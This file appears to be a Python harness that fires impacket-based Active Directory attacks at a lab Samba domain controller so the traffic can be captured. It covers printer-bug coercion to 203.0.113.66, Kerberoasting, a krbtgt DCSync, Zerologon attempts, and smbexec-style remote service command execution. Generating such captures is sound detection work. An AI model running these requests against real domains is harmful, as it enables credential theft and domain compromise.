"""Calls of impacket that domain.sh makes against a real Samba domain controller. Usage: domain.py <what> <address>."""
import sys

from impacket.dcerpc.v5 import drsuapi, epm, nrpc, rprn, scmr, transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY
from impacket.krb5 import constants
from impacket.krb5.kerberosv5 import getKerberosTGS, getKerberosTGT
from impacket.krb5.types import Principal
from impacket.smbconnection import SMBConnection

what, address = sys.argv[1:3]
USER, PASSWORD, DOMAIN = 'Administrator', 'Passw0rd.2019', 'EXAMPLE'


def pipe(name, interface):
    rpc = transport.DCERPCTransportFactory(rf'ncacn_np:{address}[\pipe\{name}]')
    rpc.set_credentials(USER, PASSWORD, DOMAIN)
    dce = rpc.get_dce_rpc()
    dce.connect()
    dce.bind(interface)
    return dce


def attempt(call, *arguments):
    try:
        return call(*arguments)
    except Exception as error:  # the server's refusal is part of the capture
        print(type(error).__name__, error)


if what == 'printer':
    dce = pipe('spoolss', rprn.MSRPC_UUID_RPRN)
    handle = attempt(rprn.hRpcOpenPrinter, dce, f'\\\\{address}\x00')
    request = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
    request['hPrinter'] = handle['pHandle'] if handle else b'\0' * 20
    request['fdwFlags'] = rprn.PRINTER_CHANGE_ADD_JOB
    request['pszLocalMachine'] = '\\\\203.0.113.66\x00'
    request['pOptions'] = NULL
    attempt(dce.request, request)
elif what == 'roast':
    client = Principal('li', type=constants.PrincipalNameType.NT_PRINCIPAL.value)
    ticket, cipher, _, key = getKerberosTGT(client, 'Spring2019.', 'EXAMPLE.LAN', b'', b'', kdcHost=address)
    service = Principal('MSSQLSvc/db01.example.lan:1433', type=constants.PrincipalNameType.NT_SRV_INST.value)
    attempt(getKerberosTGS, service, 'EXAMPLE.LAN', address, ticket, cipher, key)
elif what == 'dcsync':
    rpc = transport.DCERPCTransportFactory(epm.hept_map(address, drsuapi.MSRPC_UUID_DRSUAPI, protocol='ncacn_ip_tcp'))
    rpc.set_credentials(USER, PASSWORD, DOMAIN)
    dce = rpc.get_dce_rpc()
    dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.connect()
    dce.bind(drsuapi.MSRPC_UUID_DRSUAPI)
    request = drsuapi.DRSBind()
    request['puuidClientDsa'] = drsuapi.NTDSAPI_CLIENT_GUID
    extensions = drsuapi.DRS_EXTENSIONS_INT()
    extensions['cb'] = len(extensions)
    extensions['dwFlags'] = drsuapi.DRS_EXT_GETCHGREQ_V6 | drsuapi.DRS_EXT_GETCHGREPLY_V6 | drsuapi.DRS_EXT_STRONG_ENCRYPTION
    for field in ('SiteObjGuid', 'ConfigObjGUID'):
        extensions[field] = drsuapi.NULLGUID
    for field in ('Pid', 'dwReplEpoch', 'dwFlagsExt', 'dwExtCaps'):
        extensions[field] = 0
    request['pextClient']['cb'] = len(extensions)
    request['pextClient']['rgb'] = list(extensions.getData())
    handle = dce.request(request)['phDrs']
    name = drsuapi.DSNAME()
    name['SidLen'] = 0
    name['Guid'] = drsuapi.NULLGUID
    name['Sid'] = ''
    name['NameLen'] = len('CN=krbtgt,CN=Users,DC=example,DC=lan')
    name['StringName'] = 'CN=krbtgt,CN=Users,DC=example,DC=lan\x00'
    name['structLen'] = len(name.getData())
    changes = drsuapi.DRSGetNCChanges()
    changes['hDrs'] = handle
    changes['dwInVersion'] = 8
    changes['pmsgIn']['tag'] = 8
    v8 = changes['pmsgIn']['V8']
    v8['uuidDsaObjDest'] = drsuapi.NTDSAPI_CLIENT_GUID
    v8['uuidInvocIdSrc'] = drsuapi.NTDSAPI_CLIENT_GUID
    v8['pNC'] = name
    v8['usnvecFrom']['usnHighObjUpdate'] = 0
    v8['usnvecFrom']['usnHighPropUpdate'] = 0
    v8['pUpToDateVecDest'] = NULL
    v8['ulFlags'] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP
    v8['cMaxObjects'] = 1
    v8['cMaxBytes'] = 0
    v8['ulExtendedOp'] = drsuapi.EXOP_REPL_OBJ
    v8['pPartialAttrSet'] = NULL
    v8['pPartialAttrSetEx1'] = NULL
    v8['PrefixTableDest']['pPrefixEntry'] = NULL
    attempt(dce.request, changes)
elif what == 'printers':
    dce = pipe('spoolss', rprn.MSRPC_UUID_RPRN)
    attempt(rprn.hRpcOpenPrinter, dce, f'\\\\{address}\x00')
    attempt(rprn.hRpcEnumPrinters, dce, rprn.PRINTER_ENUM_LOCAL)
elif what == 'zerologon':
    rpc = transport.DCERPCTransportFactory(epm.hept_map(address, nrpc.MSRPC_UUID_NRPC, protocol='ncacn_ip_tcp'))
    dce = rpc.get_dce_rpc()
    dce.connect()
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    for _ in range(5):
        nrpc.hNetrServerReqChallenge(dce, 'DC01\x00', 'DC01\x00', b'\0' * 8)
        attempt(nrpc.hNetrServerAuthenticate3, dce, 'DC01\x00', 'DC01$\x00', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, 'DC01\x00', b'\0' * 8, 0x212FFFFF)
elif what == 'pipes':
    smb = SMBConnection(address, address)
    smb.login(USER, PASSWORD, DOMAIN)
    tree = smb.connectTree('IPC$')
    for name in sys.argv[3:]:
        attempt(smb.openFile, tree, '\\' + name)
elif what == 'service':
    dce = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
    manager = attempt(scmr.hROpenSCManagerW, dce)
    attempt(scmr.hRCreateServiceW, dce, manager['lpScHandle'], 'BTOBTO\x00', 'BTOBTO\x00', 0xF01FF, 16, 3, 0, '%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat\x00')
elif what == 'services':
    dce = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
    manager = attempt(scmr.hROpenSCManagerW, dce)
    attempt(scmr.hREnumServicesStatusW, dce, manager['lpScHandle'])
elif what == 'files':
    smb = SMBConnection(address, address)
    smb.login(USER, PASSWORD, DOMAIN)
    for share, name in (argument.split(':', 1) for argument in sys.argv[3:]):
        tree = smb.connectTree(share)
        handle = attempt(smb.createFile, tree, name)
        if handle:
            smb.writeFile(tree, handle, b'nt authority\\system\r\n')
            smb.closeFile(tree, handle)
